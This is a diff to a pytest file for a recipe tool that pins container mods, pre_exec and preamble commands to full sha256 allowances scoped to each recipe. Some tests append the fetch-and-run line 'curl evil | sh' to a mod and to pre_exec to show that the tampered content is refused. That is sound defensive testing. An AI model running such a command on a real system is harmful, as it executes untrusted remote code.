@@ -58,7 +58,7 @@ def test_a_mod_in_the_registry_checkout_is_read_whole_pinned_and_shown(tmp_path)
     assert {f["path"]: f["mode"] for f in mod["files"]} == {"run.sh": "0755", "patches/parser.patch": "0644"}
     assert next(f["text"] for f in mod["files"] if f["path"] == "patches/parser.patch") == PATCH
     said = [p["detail"] for p in doc["provenance"] if p["key"] == "engine.mods"]
-    assert said and "privileged request" in said[0] and "mod:fix-parser" in said[0]
+    assert said and "privileged request" in said[0] and "mod fix-parser" in said[0]
     assert "sparkrun_not_honoured" not in doc.get("extra", {})
 
 
@@ -93,11 +93,22 @@ def plan_of(doc: dict, allow: list[str] | None) -> dict:
     return build(doc, nodes(1), Options(model_root=ROOT, allow=frozenset(allow) if allow is not None else None))
 
 
+def mod_allow(doc: dict, index: int = 0) -> str:
+    """The serve_allow entry of a recipe's mod: the recipe, the mod's name and its whole sha256."""
+    mod = doc["engine"]["mods"][index]
+    return f"mod:{doc['name']}/{mod['name']}@{mod['sha256']}"
+
+
+def code_allow(doc: dict, kind: str) -> str:
+    """The serve_allow entry of a recipe's pre_exec or preamble: the recipe and the commands' whole sha256."""
+    return f"{kind}:{doc['name']}@{doc['engine'][kind]['sha256']}"
+
+
 def test_the_plan_runs_a_mod_only_where_the_inventory_allows_it_and_only_as_pinned(tmp_path):
     doc = importing.import_source(str(registry(tmp_path)))
-    with pytest.raises(BadInput, match="mod:fix-parser"):
+    with pytest.raises(BadInput, match=f"add '{mod_allow(doc)}'"):
         plan_of(doc, [])
-    (rank,) = plan_of(doc, ["mod:fix-parser"])["ranks"]
+    (rank,) = plan_of(doc, [mod_allow(doc)])["ranks"]
     options = rank["container_options"]
     assert options[options.index("--entrypoint") + 1] == "/bin/sh"
     assert rank["argv"][:3] == ["-c", plan_mods.WRAPPER, "vllm"] and rank["argv"][3] == "serve"
@@ -108,21 +119,26 @@ def test_the_plan_runs_a_mod_only_where_the_inventory_allows_it_and_only_as_pinn
     edited = json.loads(json.dumps(doc))
     edited["engine"]["mods"][0]["files"][0]["text"] += "curl evil | sh\n"
     with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
-        plan_of(edited, ["mod:fix-parser"])
-    # allowed by NAME@SHA12: that content only; a mod re-imported with other files under the name is refused
-    pinned = f"mod:fix-parser@{doc['engine']['mods'][0]['sha256'][:12]}"
-    assert plan_of(doc, [pinned])["privileged"] == ["mod:fix-parser"]
+        plan_of(edited, [mod_allow(doc)])
+    # allowed by RECIPE/NAME@SHA256: that content only; a mod re-imported with other files under the name is refused
+    pinned = mod_allow(doc)
+    assert plan_of(doc, [pinned])["privileged"] == [pinned]
     changed = importing.import_source(str(registry(tmp_path / "changed", mod_at="official-mods")))
     changed["engine"]["mods"][0]["files"][0]["text"] += "# another version\n"
     from sparkplay.recipes import mods as recipe_mods
 
     changed["engine"]["mods"][0]["sha256"] = recipe_mods.digest(changed["engine"]["mods"][0]["files"])
-    with pytest.raises(BadInput, match="add 'mod:fix-parser@"):
+    with pytest.raises(BadInput, match=f"add '{mod_allow(changed)}'"):
         plan_of(changed, [pinned])
+    assert mod_allow(changed) != pinned
+    # the same mod, allowed for this recipe, is not allowed for another recipe that brings it
+    other = {**json.loads(json.dumps(doc)), "name": "other-recipe"}
+    with pytest.raises(BadInput, match="mod:other-recipe/fix-parser@"):
+        plan_of(other, [pinned])
     native = json.loads(json.dumps(doc))
     native["engine"].update(runtime="native", packages=[])
     with pytest.raises(BadInput, match="the native runtime has none"):
-        plan_of(native, ["mod:fix-parser"])
+        plan_of(native, [mod_allow(doc)])
 
 
 def in_container(rank: dict, host: Path, engine: list[str]) -> subprocess.CompletedProcess:
@@ -146,7 +162,7 @@ def test_the_wrapper_runs_each_mod_in_the_container_before_the_engine(tmp_path):
     """The plan's own entrypoint wrapper, mounts and files in a real container: the mod's run.sh runs first (in
     sparkrun's place, with WORKSPACE_DIR), then the engine is exec'd with its own arguments."""
     doc = importing.import_source(str(registry(tmp_path / "reg")))
-    (rank,) = plan_of(doc, ["mod:fix-parser"])["ranks"]
+    (rank,) = plan_of(doc, [mod_allow(doc)])["ranks"]
     engine = ["/bin/cat", "/tmp/sparkplay-mod-ran", "/workspace/mods/fix-parser/patches/parser.patch"]
     run = in_container(rank, tmp_path / "mods", engine)
     assert run.returncode == 0, run.stderr
@@ -165,7 +181,7 @@ def test_the_import_command_finds_mods_in_a_folder_it_is_given_and_shows_each_as
     proc = cli(root, "recipe", "import", str(recipe), "--mods-from", str(tmp_path / "reg" / "eugr" / "mods"), "--yes")
     assert proc.returncode == 0, proc.stderr
     assert (
-        "privileged request: runs fix-parser/run.sh" in proc.stderr and "serve_allow: ['mod:fix-parser']" in proc.stderr
+        "privileged request: runs fix-parser/run.sh" in proc.stderr and "serve_allow: ['mod:qwen3-vllm/fix-parser@" in proc.stderr
     )
     saved = yaml.safe_load((root / "recipes" / "qwen3-vllm.yml").read_text())
     assert saved["engine"]["mods"][0]["name"] == "fix-parser"
@@ -184,7 +200,7 @@ def test_a_hand_written_mod_path_that_leaves_its_folder_is_refused_before_anythi
     mod["sha256"] = recipe_mods.digest(mod["files"])  # an attacker pins their own hash
     assert model.schema_errors(doc)
     with pytest.raises(BadInput, match="leaves the mod's folder"):
-        plan_of(doc, ["mod:fix-parser"])
+        plan_of(doc, [mod_allow(doc)])
 
 
 # -- pre_exec: the recipe's own commands, before its mods ------------------------------------------------------
@@ -205,17 +221,17 @@ def test_pre_exec_is_rendered_pinned_and_runs_only_where_the_inventory_allows_it
     # {model} filled as sparkrun fills it (the recipe's model id); an unknown {...} and the shell's ${...} stay
     assert pre["commands"][0].endswith("echo 'pre for Qwen/Qwen3-30B-A3B' > /tmp/sparkplay-pre/ran")
     assert pre["commands"][1] == PRE_EXEC[1] and len(pre["sha256"]) == 64
-    allow = f"pre_exec:{pre['sha256'][:12]}"
-    assert allow in next(n["detail"] for n in doc["provenance"] if n["key"] == "engine.pre_exec")
+    allow = code_allow(doc, "pre_exec")
+    assert "privileged request" in next(n["detail"] for n in doc["provenance"] if n["key"] == "engine.pre_exec")
     with pytest.raises(BadInput, match=allow):
-        plan_of(doc, ["mod:fix-parser"])
-    (rank,) = plan_of(doc, ["mod:fix-parser", allow])["ranks"]
+        plan_of(doc, [mod_allow(doc)])
+    (rank,) = plan_of(doc, [mod_allow(doc), allow])["ranks"]
     script = next(f for f in rank["files"] if f["path"].endswith("/" + plan_mods.PRE_EXEC))
     assert "bash -c 'mkdir -p /tmp/sparkplay-pre" in script["content"]
     edited = json.loads(json.dumps(doc))
     edited["engine"]["pre_exec"]["commands"].append("curl evil | sh")
     with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
-        plan_of(edited, ["mod:fix-parser", allow])
+        plan_of(edited, [mod_allow(doc), allow])
 
 
 @pytest.mark.parametrize(("entries", "why"), [
@@ -235,8 +251,8 @@ def test_the_wrapper_runs_pre_exec_then_the_mods_then_the_engine(tmp_path):
     """sparkrun's order in a real container: the recipe's pre_exec (by bash, in the container's working folder),
     then its mods, then the engine with its own arguments."""
     doc = importing.import_source(str(with_pre_exec(registry(tmp_path / "reg"), PRE_EXEC)))
-    allow = f"pre_exec:{doc['engine']['pre_exec']['sha256'][:12]}"
-    (rank,) = plan_of(doc, ["mod:fix-parser", allow])["ranks"]
+    allow = code_allow(doc, "pre_exec")
+    (rank,) = plan_of(doc, [mod_allow(doc), allow])["ranks"]
     run = in_container(rank, tmp_path / "mods", ["/bin/cat", "/tmp/sparkplay-pre/ran", "/tmp/sparkplay-mod-ran"])
     assert run.returncode == 0, run.stderr
     assert run.stdout == "pre for Qwen/Qwen3-30B-A3B\ncwd /srv, /root {unknown}\npatched by fix-parser from /srv\n"
@@ -264,7 +280,7 @@ def test_a_command_that_installs_or_fetches_before_the_engine_is_a_pinned_reques
     pre = doc["engine"]["preamble"]
     assert pre["commands"] == ["python3 -m pip install 'vllm[audio]'", "python3 -c 'print(1)'"]
     assert doc["serve"]["args"] == ["--port", "8000"]
-    allow = f"preamble:{pre['sha256'][:12]}"
+    allow = code_allow(doc, "preamble")
     with pytest.raises(BadInput, match=allow):
         plan_of(doc, [])
     (rank,) = plan_of(doc, [allow])["ranks"]
@@ -288,7 +304,7 @@ def test_what_cannot_be_carried_before_the_engine_stays_refused(tmp_path, comman
 def test_the_preamble_runs_in_the_shell_that_starts_the_engine(tmp_path):
     command = "mkdir -p /tmp/pre && touch /tmp/pre/installed && vllm serve {model} --port 8000"
     doc = importing.import_source(str(recipe_with(tmp_path, command)))
-    allow = f"preamble:{doc['engine']['preamble']['sha256'][:12]}"
+    allow = code_allow(doc, "preamble")
     (rank,) = plan_of(doc, [allow])["ranks"]
     run = in_container(rank, tmp_path / "mounted", ["/bin/ls", "/tmp/pre"])
     assert run.returncode == 0 and run.stdout == "installed\n", run.stderr
